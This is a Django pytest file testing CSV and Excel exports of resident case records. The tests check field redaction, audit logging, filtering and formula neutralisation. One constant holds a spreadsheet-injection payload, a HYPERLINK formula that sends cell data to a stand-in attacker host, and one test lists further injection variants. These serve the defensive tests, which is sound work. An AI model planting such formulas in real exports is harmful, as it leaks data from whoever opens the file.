"""Lists taken out: what is in them, what never is, and that no cell is a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from linli.desk.common.models import LedgerEntry, ReadEntry
from linli.desk.matters.models import Matter, Outcome, State
from linli.desk.pages.overview import sheets
from linli.desk.people.models import Resident
from tests.desk.matters.conftest import Receive
from tests.desk.matters.rows import put
from tests.desk.pages.overview.test_overview import OVERVIEW, client_of
from tests.desk.people.conftest import Office

EXPORT = f"{OVERVIEW}export/"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def take(client: Client, query: str = "", **form):
    return client.post(f"{EXPORT}{query}", {"request_key": str(uuid.uuid4()), "form": "csv"} | form)


def rows_of(answer) -> list[dict[str, str]]:
    body = b"".join(answer.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_says_what_the_matters_are(office: Office) -> None:
    worker = office.accounts["grid_worker"]
    put(
        office,
        days_ago=2,
        closed_after=1.5,
        solved=True,
        satisfied=False,
        rating=2,
        worker=worker,
        reopened=1,
    )
    put(office, category="noise", grid=None, lon=None, lat=None, state=State.REFUSED)
    answer = take(client_of(office, "director"))
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="willow-2026-09-02-2026-11-24.csv"'
    assert "no-store" in answer["Cache-Control"]
    first, second = rows_of(answer)
    told = {
        "number": "26-00001", "received at": "2026-11-22 09:00", "category": "Lighting", "grid": "Grid 1",
        "state": "closed", "outcome": "fixed", "with whom": worker.name, "closed at": "2026-11-23 21:00",
        "days to closing": "1.5", "is overdue": "no", "times reopened": "1", "solved": "yes", "satisfied": "no", "rating": "2",
        "latitude": "30.005", "longitude": "120.011",
    }  # fmt: skip
    assert {name: first[name] for name in told} == told
    assert (second["state"], second["grid"], second["latitude"], second["outcome"]) == (
        "not accepted",
        "",
        "",
        "",
    )
    assert "words" not in first


def test_contacts_and_confidences_stay_inside_whatever_is_asked(
    office: Office, receive: Receive, neighbour: Resident
) -> None:
    receive(
        reporter=neighbour,
        words="楼道灯坏了,打我电话 13812345678 或 zhang@example.org",
        place_words="3号楼2单元",
    )
    receive(reporter=neighbour, words="有人每晚打孩子", confidential=True)
    receive(category="whistleblow", answers={}, words="账目不对")
    answer = take(client_of(office, "director"), personal="on", reason="街道抽查")
    open_one, told, sensitive = rows_of(answer)
    assert "楼道灯坏了" in open_one["words"]
    assert open_one["place in words"] == "3号楼2单元"
    assert open_one["exact longitude"] == "120.011"
    for hidden in (told, sensitive):
        assert [hidden[name] for name in ("words", "place in words", "latitude", "exact latitude")] == [
            ""
        ] * 4
    everything = " ".join(value for row in (open_one, told, sensitive) for value in row.values())
    for secret in ("13812345678", "zhang@example.org", neighbour.name, "有人每晚打孩子", "账目不对"):
        assert secret not in everything


def test_export_with_words_needs_a_reason_and_is_written_down(office: Office) -> None:
    put(office)
    client = client_of(office, "director")
    refused = take(client, personal="on", reason=" ")
    assert refused.status_code == 422
    assert "Say what the words are needed for" in refused.content.decode()
    assert not LedgerEntry.objects.filter(event="matters.exported").exists()
    take(client, personal="on", reason="月报")
    take(client, "?category=lighting&since=2026-11-01&until=2026-11-24")
    with_words, plain = LedgerEntry.objects.filter(event="matters.exported").order_by("number")
    assert with_words.data["personal"] == ["words", "place_words", "exact_lat", "exact_lon"]
    assert (plain.data["personal"], plain.data["rows"], plain.data["category"]) == ([], 1, "lighting")
    assert plain.data["since"] == "2026-10-31T16:00:00+00:00"
    [read] = ReadEntry.objects.all()
    assert (read.about, read.reason) == (with_words.about, "月报")


def test_export_keeps_to_what_was_asked(office: Office) -> None:
    first, second = office.grids
    codes = [put(office, grid=grid, category=category, days_ago=days_ago).code for grid, category, days_ago in (
        (first, "lighting", 1), (second, "lighting", 1), (second, "noise", 1), (second, "lighting", 40),
    )]  # fmt: skip
    client = client_of(office, "director")
    asked = f"?grid={second.pk}&category=lighting&since=2026-11-01&until=2026-11-24"
    assert [row["number"] for row in rows_of(take(client, asked))] == [codes[1]]
    assert [row["number"] for row in rows_of(take(client))] == [codes[3], *codes[:3]]
    assert client.get(f"{EXPORT}{asked}").context["count_words"] == "1 matter"


def test_workbook_holds_the_same_and_says_what_it_says(office: Office) -> None:
    office.community.invented = True
    office.community.save()
    put(office, days_ago=2, closed_after=1.5, rating=4)
    answer = take(client_of(office, "director"), form="xlsx")
    assert (
        answer["Content-Disposition"] == 'attachment; filename="invented-willow-2026-09-02-2026-11-24.xlsx"'
    )
    book = load_workbook(io.BytesIO(b"".join(answer.streaming_content)))
    sheet, about = book.worksheets
    names = [cell.value for cell in sheet[1]]
    row = dict(zip(names, (cell.value for cell in sheet[2]), strict=True))
    # Excel knows no zones: it is the time on the wall there.
    nine = dt.datetime(2026, 11, 22, 9)  # noqa: DTZ001
    assert (row["received at"], row["days to closing"], row["rating"]) == (
        nine,
        1.5,
        4,
    )
    assert sheet.max_row == 2
    told = {line[0].value: line[1].value for line in about.iter_rows(min_col=1, max_col=2)}
    assert "A demo: its people and matters are invented." in told
    assert told["days to closing"] == "From receipt to closing, in days of 24 hours."
    assert set(names) <= set(told)


def test_no_cell_is_a_formula(office: Office) -> None:
    evil = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "|calc", "%0A=1"]
    for words in evil:
        put(office, words=words, lead=words)
    client = client_of(office, "director")
    rows = rows_of(take(client, personal="on", reason="月报"))
    assert len(rows) == len(evil)
    assert all(row[name].startswith("'") for row in rows for name in ("words", "department"))
    taken = take(client, form="xlsx", personal="on", reason="月报")
    sheet = load_workbook(io.BytesIO(b"".join(taken.streaming_content))).worksheets[0]
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    column = [cell.value for cell in sheet[1]].index("department")
    kept = [line[column] for line in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in kept] == [" ".join(words.split()) for words in evil]
    assert all(cell.quotePrefix for cell in kept)


def test_signs_no_sheet_can_hold_are_left_out(office: Office) -> None:
    put(office, words="灯\x0b\x07坏了")
    answer = take(client_of(office, "director"), form="xlsx", personal="on", reason="月报")
    sheet = load_workbook(io.BytesIO(b"".join(answer.streaming_content))).worksheets[0]
    assert "灯坏了" in [cell.value for cell in sheet[2]]


def test_export_speaks_the_readers_language_to_the_last_row(office: Office) -> None:
    put(office, closed_after=0.5, outcome=Outcome.NOT_POSSIBLE)
    [row] = rows_of(take(client_of(office, "director", "zh-CN")))
    assert (row["编号"], row["是否超期"]) == ("26-00001", "否")


def test_csv_comes_in_pieces_and_in_two_queries(office: Office, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "CHUNK", 2)
    for _ in range(5):
        put(office)
    answer = take(client_of(office, "director"))
    with CaptureQueriesContext(connection) as queries:
        pieces = list(answer.streaming_content)
    assert [piece.count(b"\r\n") for piece in pieces] == [3, 2, 1]
    assert len(queries) == 1


def test_list_too_long_for_a_workbook_is_refused_before_it_is_read(
    office: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheets, "MOST_IN_WORKBOOK", 1)
    put(office)
    put(office)
    answer = take(client_of(office, "director"), form="xlsx")
    assert answer.status_code == 422
    assert "Take CSV" in answer.content.decode()
    assert not LedgerEntry.objects.filter(event="matters.exported").exists()
    assert Matter.objects.count() == 2
